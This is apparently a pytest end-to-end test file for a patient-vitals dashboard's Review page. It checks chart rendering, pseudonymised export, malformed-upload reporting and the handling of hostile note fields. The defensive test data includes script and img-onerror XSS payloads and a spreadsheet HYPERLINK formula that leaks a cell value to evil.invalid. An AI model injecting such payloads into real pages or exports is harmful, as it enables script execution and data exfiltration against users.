"""The Review side of the app in a real browser: sample cohort, session chart, uploads, hostile text."""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest

from dashboard.core.analysis.protocol import load_protocol
from dashboard.ui.data import SAMPLE_DIR
from tests.e2e.harness import download, expect, go_to, grid_rows, open_app, review_source, upload

pytestmark = pytest.mark.e2e

BAD_VITALS = (
    b"session_id,timestamp,hr,sbp,dbp,map,spo2,rr\n"
    b"U1,2026-03-02T09:00:00Z,72,128,82,97,98,14\n"
    b"U1,not a time,73,,,,98,14\n"
    b"U1,2026-03-02T09:00:10Z,74,,,,98,14\n"
)
SCRIPT_NOTE = "<script>window.__injected = 'script'</script>"
IMAGE_NOTE = "<img src=x onerror=\"window.__injected = 'img'\">"
FORMULA_NOTE = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")'


def test_review_page_draws_the_sample_cohort_and_the_session_chart_with_its_limit_lines(page, server):
    open_app(page, server.url, "Review", "Review sessions")
    review_source(page, "Sample data")  # the browser tests before this one left sessions in the store
    sample = pd.read_csv(SAMPLE_DIR / "sessions.csv")
    sessions = sample["session_id"].nunique()
    expect(page.get_by_text(f"Sessions ({sessions} of {sessions})")).to_be_visible()
    first = grid_rows(page.get_by_test_id("stDataFrame").filter(has_text="P01-S1").first)[0]
    assert first[:2] == ["P01-S1", "P01"]
    expect(page.get_by_test_id("stPlotlyChart")).to_have_count(4)  # the cohort charts

    archive = zipfile.ZipFile(download(page, "Pseudonymised export"))
    summary = pd.read_csv(archive.open("summary.csv"))
    assert len(summary) == sessions and summary["patient_id"].str.startswith("pt-").all()
    text = "".join(archive.read(name).decode() for name in archive.namelist())
    assert not [patient for patient in sample["patient_id"].unique() if patient in text]

    go_to(page, "Session detail", "Session detail")
    chart = page.get_by_test_id("stPlotlyChart")
    expect(chart).to_have_count(1)
    labels = chart.locator(".annotation-text")
    expect(labels.first).to_be_attached()
    sbp_limits = sorted(r.limit for r in load_protocol().rules if r.vital == "sbp" and r.direction == "high")
    shown = " ".join(labels.all_text_contents())
    for limit in sbp_limits:
        assert f"SBP ≥{limit:g}" in shown
    dashed = chart.locator(".shapelayer path[style*='stroke-dasharray']")
    assert dashed.count() >= len(sbp_limits)


def test_malformed_upload_shows_its_line_numbered_problem_and_no_traceback(page, server):
    open_app(page, server.url, "Review", "Review sessions")
    upload(page, [("bad_vitals.csv", BAD_VITALS)])
    expect(page.get_by_text("Validation report: 1 file(s), 1 problem(s)")).to_be_visible()
    problems = page.get_by_test_id("stDataFrame").filter(has_text="Kind of problem")  # grouped by kind
    row = grid_rows(problems)[0]
    assert (row[0], row[2], row[4], row[5]) == ("bad_vitals.csv", "timestamp", "1", "3")  # 1 row: line 3
    expect(page.get_by_text("Sessions (1 of 1)")).to_be_visible()  # the valid rows were kept
    expect(page.get_by_test_id("stException")).to_have_count(0)
    expect(page.get_by_text("Traceback")).to_have_count(0)


def test_hostile_note_is_shown_as_plain_text_and_exported_neutralised(page, server):
    vitals = b"session_id,timestamp,hr,sbp,dbp,spo2\nX1,2026-03-02T09:00:00Z,72,128,82,98\n"
    vitals += b"X1,2026-03-02T09:10:00Z,75,131,84,97\n"
    events = (
        pd.DataFrame(
            {
                "session_id": "X1",
                "timestamp": ["2026-03-02T09:02:00Z", "2026-03-02T09:03:00Z", "2026-03-02T09:04:00Z"],
                "event": ["nausea", "anxiety", "headache"],
                "note": [SCRIPT_NOTE, IMAGE_NOTE, FORMULA_NOTE],
            }
        )
        .to_csv(index=False)
        .encode()
    )
    open_app(page, server.url, "Review", "Review sessions")
    upload(page, [("hostile_vitals.csv", vitals), ("hostile_events.csv", events)])
    expect(page.get_by_text("Sessions (1 of 1)")).to_be_visible()

    exported = pd.read_csv(download(page, "Events (CSV)"), keep_default_na=False).set_index("event")["note"]
    assert exported["headache"] == "'" + FORMULA_NOTE
    assert exported["nausea"] == SCRIPT_NOTE  # not a formula: kept exactly as written

    go_to(page, "Session detail", "Session detail")
    log = page.get_by_test_id("stDataFrame").filter(has_text="Note")
    notes = [row[-1] for row in grid_rows(log)]
    assert notes == [SCRIPT_NOTE, IMAGE_NOTE, FORMULA_NOTE]  # as typed, on screen
    assert page.evaluate("window.__injected") is None  # ... and never run
    assert not page.evaluate("[...document.scripts].some(s => s.text.includes('__injected'))")
    expect(page.locator("img[src='x']")).to_have_count(0)
